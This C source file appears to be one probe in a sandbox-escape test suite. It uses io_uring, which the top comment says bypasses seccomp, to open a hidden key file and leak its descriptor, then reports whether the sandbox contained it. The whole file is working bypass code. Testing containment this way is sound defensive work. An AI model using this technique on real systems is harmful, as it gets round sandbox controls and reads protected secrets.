// io_uring: its operations never pass through seccomp. If a ring can be made, open the hidden
// key through IORING_OP_OPENAT and read it.
#include <linux/io_uring.h>
#include <sys/mman.h>

#include "escape.h"

int main(void) {
  struct io_uring_params p;
  memset(&p, 0, sizeof(p));
  int ring = (int)syscall(SYS_io_uring_setup, 4, &p);
  if (ring < 0) {
    int e1 = errno;
    long r2 = syscall(SYS_io_uring_enter, 0, 1, 0, 0, NULL, 0);
    int e2 = errno;
    long r3 = syscall(SYS_io_uring_register, 0, 0, NULL, 0);
    int e3 = errno;
    if (r2 == 0 || r3 == 0) finish(ESCAPED, "io_uring_enter/register answered");
    finish(CONTAINED, "io_uring_setup: %s, enter: %s, register: %s", strerror(e1), strerror(e2), strerror(e3));
  }
  size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
  size_t cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
  char *sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
  char *cq = mmap(NULL, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
  struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof(*sqes), PROT_READ | PROT_WRITE, MAP_SHARED, ring,
                                   IORING_OFF_SQES);
  if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) finish(ESCAPED, "io_uring ring created (mmap failed)");
  memset(&sqes[0], 0, sizeof(sqes[0]));
  sqes[0].opcode = IORING_OP_OPENAT;
  sqes[0].fd = AT_FDCWD;
  sqes[0].addr = (uintptr_t)fx("ESC_HIDDEN_FILE");
  sqes[0].open_flags = O_RDONLY;
  unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
  unsigned *array = (unsigned *)(sq + p.sq_off.array);
  array[*tail & *(unsigned *)(sq + p.sq_off.ring_mask)] = 0;
  __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
  syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
  struct io_uring_cqe *cqe = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
  if (cqe[0].res >= 0) {
    leak_fd(cqe[0].res, "io_uring openat");
    finish(ESCAPED, "io_uring opened the hidden key (fd %d)", cqe[0].res);
  }
  finish(ESCAPED, "io_uring ring created; openat gave %d", cqe[0].res);
}
